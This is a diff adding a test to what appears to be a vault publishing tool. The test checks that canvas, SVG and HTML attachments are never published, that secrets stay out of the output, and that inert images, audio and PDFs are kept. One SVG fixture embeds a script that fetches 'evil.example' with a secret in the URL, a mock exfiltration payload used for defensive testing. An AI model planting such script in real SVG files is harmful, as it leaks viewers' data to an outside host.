@@ -115,3 +115,30 @@ describe.each(["site", "digital-garden"] as SiteLayout[])("comments reached thro
 		for (const n of [10, 11, 12]) expect(text.includes(secret(n))).toBe(false);
 	});
 });
+
+describe.each(["site", "digital-garden"] as SiteLayout[])("attachments that are not inert (%s layout)", (layout) => {
+	test("a canvas, an SVG and an HTML file are never copied; their links keep only their text", async () => {
+		const { memoryVault, allText } = await import("./vault");
+		const canvas = JSON.stringify({ nodes: [{ id: "1", type: "text", text: `${secret(20)} private card` }, { id: "2", type: "file", file: `Private/${secret(21)}.md` }], edges: [] });
+		const files = {
+			"A.md": "---\ndg-publish: true\n---\n# A\n[[Board.canvas|the board]] and ![[Board.canvas]]\n![[logo.svg]] [[page.html|a page]]\n![[ok.png]] ![[talk.mp3]] [[paper.pdf]]\n",
+			"Board.canvas": canvas,
+			"logo.svg": `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.example/${secret(22)}")</script></svg>`,
+			"page.html": `<script>${secret(23)}</script>`,
+			[`Private/${secret(21)}.md`]: "private",
+			"ok.png": new TextEncoder().encode("PNG inert picture"),
+			"talk.mp3": new TextEncoder().encode("ID3 inert audio"),
+			"paper.pdf": new TextEncoder().encode("%PDF inert paper"),
+		};
+		const build = await buildPublish({ vault: memoryVault(files), manifest: (await import("../../../src/core/publish")).emptyManifest(), options: publishOptions({ layout }) });
+		expect(build.errors).toEqual([]);
+		const paths = build.changes.write.map((f) => f.path);
+		expect(paths.some((p) => /\.(canvas|svg|html?)$/i.test(p) && !p.endsWith("index.html"))).toBe(false);
+		const text = allText(build.changes.write).toLowerCase();
+		for (const n of [20, 21, 22, 23]) expect(text.includes(secret(n))).toBe(false);
+		expect(text).not.toContain("<svg");
+		for (const inert of ["png inert picture", "id3 inert audio", "%pdf inert paper"]) expect(text).toContain(inert);
+		expect(text).toContain("the board");
+		expect(text).toContain("a page");
+	});
+});
